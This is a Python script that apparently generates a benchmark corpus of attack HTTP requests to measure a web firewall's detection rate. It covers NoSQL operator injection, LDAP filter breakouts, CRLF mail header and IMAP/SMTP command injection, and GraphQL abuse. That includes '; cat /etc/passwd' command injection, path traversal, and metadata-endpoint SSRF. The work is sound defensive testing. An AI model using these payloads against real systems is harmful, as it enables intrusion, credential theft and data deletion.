#!/usr/bin/env python3
"""Writes a JSON-lines corpus of attacks, one category per class the issue
names as weak (NoSQL operators, LDAP filters, mail header and SMTP/IMAP
command injection, GraphQL abuse), composed from each class's grammar —
operators, filter syntax, protocol verbs — for this project, not taken from
any public test set. `haetae eval --benign FILE` then reports per class the
share *stopped* (its "false positive" column is the detection rate).

    python3 bench/attack_classes.py > /tmp/classes.jsonl
    target/release/haetae eval --benign /tmp/classes.jsonl --misses 40
"""
import itertools
import json
import urllib.parse

q = lambda s: urllib.parse.quote(s, safe="")
FORM = {"Content-Type": "application/x-www-form-urlencoded", "Host": "localhost"}
JSON = {"Content-Type": "application/json", "Host": "localhost"}


def row(cat, method, path, headers, body=""):
    print(json.dumps({"category": cat, "method": method, "path": path, "headers": headers, "body": body}, ensure_ascii=False))


# NoSQL (MongoDB query operators): in JSON bodies, in bracket syntax, and
# server-side JavaScript.
ops = ["$ne", "$gt", "$gte", "$lt", "$regex", "$in", "$nin", "$exists", "$where", "$expr", "$or", "$not"]
vals = {"$ne": "null", "$gt": '""', "$gte": "0", "$lt": '"~"', "$regex": '".*"', "$in": '["admin","root"]', "$nin": "[]",
        "$exists": "true", "$where": '"sleep(5000)"', "$expr": '{"$eq":[1,1]}', "$or": '[{},{"a":1}]', "$not": '{"$eq":"x"}'}
for op, field in itertools.product(ops, ["password", "user", "token"]):
    row("nosql", "POST", "/login", JSON, '{"%s": {"%s": %s}}' % (field, op, vals[op]))
for op in ["$ne", "$gt", "$regex", "$exists", "$nin"]:
    row("nosql", "POST", "/login", FORM, "user=admin&password[%s]=%s" % (q(op), q("x" if op != "$regex" else ".*")))
    row("nosql", "GET", "/api/users?filter[%s]=1" % q(op), {"Host": "localhost"})
for js in ["'; return true; var x='", "1; while(true){}", "this.password.length > 0", "' || '1'=='1", "sleep(5000) || true"]:
    row("nosql", "POST", "/search", FORM, "q=" + q(js))
    row("nosql", "POST", "/search", JSON, json.dumps({"$where": js}))

# LDAP filters (RFC 4515): closing the application's filter and opening
# another, wildcards, absolute true/false, attribute probes.
ldap_tails = ["*)(uid=*))(|(uid=*", "*)(|(objectClass=*)", "admin)(&)", "admin)(|(password=*))", "*)(&(objectClass=user)(cn=*",
              "x)(userPassword=*)", "*))%00", "admin))(|(uid=*", "*)(mail=*@*", "*(|(objectclass=*))", "admin)(!(&(1=0", "*)(uid=admin)(|(uid=*",
              ")(cn=*))(|(cn=*", "*)(sAMAccountName=*", "x*)(|(memberOf=cn=admins,dc=example,dc=com)"]
for t in ldap_tails:
    row("ldap", "POST", "/login", FORM, "user=%s&password=x" % q(t))
    row("ldap", "GET", "/directory?name=%s" % q(t), {"Host": "localhost"})
for attr in ["uid", "cn", "mail", "sn", "userPassword"]:
    row("ldap", "GET", "/directory?name=%s" % q("*)(%s=*" % attr), {"Host": "localhost"})
    row("ldap", "GET", "/directory?q=%s" % q("(|(%s=*)(objectClass=*))" % attr), {"Host": "localhost"})

# Mail: header injection through a contact form, and SMTP/IMAP/POP3
# commands after a line break.
for hdr, v in [("Bcc", "attacker@evil.example"), ("Cc", "victim2@example.org"), ("To", "all@example.org"), ("Subject", "hacked"),
               ("Content-Type", "text/html"), ("Reply-To", "evil@evil.example"), ("From", "ceo@example.org")]:
    for brk in ["\r\n", "\n", "%0a", "%0d%0a"]:
        v2 = "user@example.org" + brk + hdr + ": " + v
        body = "email=" + (v2 if brk.startswith("%") else q(v2)) + "&message=hi"
        row("mail", "POST", "/contact", FORM, body)
for cmd in ["RCPT TO:<attacker@evil.example>", "MAIL FROM:<x@evil.example>", "DATA", "QUIT", "RSET", "VRFY root", "EXPN staff",
            "a1 LOGIN admin pass", "a2 SELECT INBOX", "a3 FETCH 1:* (BODY[])", "a4 DELETE INBOX", "RETR 1", "DELE 1", "USER admin", "PASS secret"]:
    row("mail", "POST", "/webmail/folder", FORM, "folder=" + q("INBOX\r\n" + cmd))
    row("mail", "GET", "/webmail/read?id=" + q("1\r\n" + cmd), {"Host": "localhost"})

# GraphQL abuse: introspection, deep nesting, aliasing and batching for
# brute force, directives overload, injection in arguments.
gql = [
    "query { __schema { types { name fields { name } } } }",
    "{ __schema { queryType { name } mutationType { name } } }",
    "query IntrospectionQuery { __schema { directives { name args { name } } } }",
    "{ __type(name: \"User\") { fields { name type { name } } } }",
    "{ user(id: 1) { friends { friends { friends { friends { friends { friends { friends { friends { id } } } } } } } } } }",
    "mutation { " + " ".join("a%d: login(user: \"admin\", password: \"p%d\") { token }" % (i, i) for i in range(30)) + " }",
    "query { " + " ".join("u%d: user(id: %d) { email }" % (i, i) for i in range(50)) + " }",
    "query { user(id: \"1' OR '1'='1\") { id } }",
    "query { search(q: \"\\\" OR 1=1 --\") { id } }",
    "{ users(where: {password: {_ne: null}}) { password } }",
    "query { me { id @include(if: true) @include(if: true) @include(if: true) @include(if: true) @include(if: true) @include(if: true) } }",
    "query { __typename __typename __typename __typename __typename __typename __typename __typename __typename __typename }",
    "{ systemDiagnostics(cmd: \"; cat /etc/passwd\") }",
    "{ file(path: \"../../../../etc/passwd\") { content } }",
    "{ fetch(url: \"http://169.254.169.254/latest/meta-data/\") }",
]
for g in gql:
    row("graphql", "POST", "/graphql", JSON, json.dumps({"query": g}))
    row("graphql", "GET", "/graphql?query=" + q(g), {"Host": "localhost"})
batch = json.dumps([{"query": "mutation { login(user: \"admin\", password: \"p%d\") { token } }" % i} for i in range(40)])
row("graphql", "POST", "/graphql", JSON, batch)
